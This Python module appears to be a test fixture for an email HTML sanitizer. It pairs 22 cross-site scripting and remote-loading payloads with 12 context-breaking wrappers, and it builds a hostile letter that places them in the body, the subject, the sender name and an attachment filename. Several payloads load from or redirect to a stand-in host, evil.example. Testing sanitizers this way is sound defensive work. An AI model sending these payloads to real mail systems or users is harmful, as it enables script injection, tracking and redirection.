"""What an HTML letter may try in a browser (safety rows 1 to 4): 22 ways, wrapped in 12."""

from email.message import EmailMessage
from itertools import product

SCRIPTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<a href=javascript:alert(1) id=go>go</a>",
    "<a href='data:text/html,<script>alert(1)</script>' id=go>go</a>",
    "<form action=https://evil.example><input autofocus onfocus=alert(1)></form>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<style>@import 'https://evil.example/a.css'; *{background:url(https://evil.example/b)}</style>",
    "<link rel=stylesheet href=https://evil.example/c.css>",
    "<img src=https://evil.example/seen.gif><img srcset='https://evil.example/s.gif 1x'>",
    "<video src=https://evil.example/v autoplay onloadstart=alert(1)></video>",
    "<object data=https://evil.example/o></object><embed src=https://evil.example/e>",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;https://evil.example/'>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example/d)'>over</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1) background=https://evil.example/bg>",
    "<table background=https://evil.example/t><td>x</table>",
    "<template><script>alert(1)</script></template><x onclick=alert(1)>x</x>",
)
WRAPPINGS = (
    "{}",
    "</title>{}",
    "</textarea>{}",
    "-->{}",
    "'\">{}",
    "<!--{}",
    "<![CDATA[{}]]>",
    "<plaintext>{}",
    "{}".upper(),
    "\x00{}",
    "<<b>{}",
    "<p><table><tr>{}",
)
PAYLOADS = tuple(wrap.format(script) for wrap, script in product(WRAPPINGS, SCRIPTS))


def hostile(payloads: tuple[str, ...]) -> bytes:
    """In the body as HTML, in the subject, in the sender's name and in a file's name."""
    letter = EmailMessage()
    first = payloads[0].replace("\x00", "")
    letter["From"] = f'"{first[:60].translate({34: None, 92: None})}" <x@eldorado.example>'
    letter["To"] = "customer.support@isaws.example"
    letter["Subject"] = first
    letter.set_content("Text")
    letter.add_alternative("\n".join(payloads), subtype="html")
    letter.add_attachment(b"x", maintype="text", subtype="html", filename=f"{first[:80]}.html")
    return letter.as_bytes()
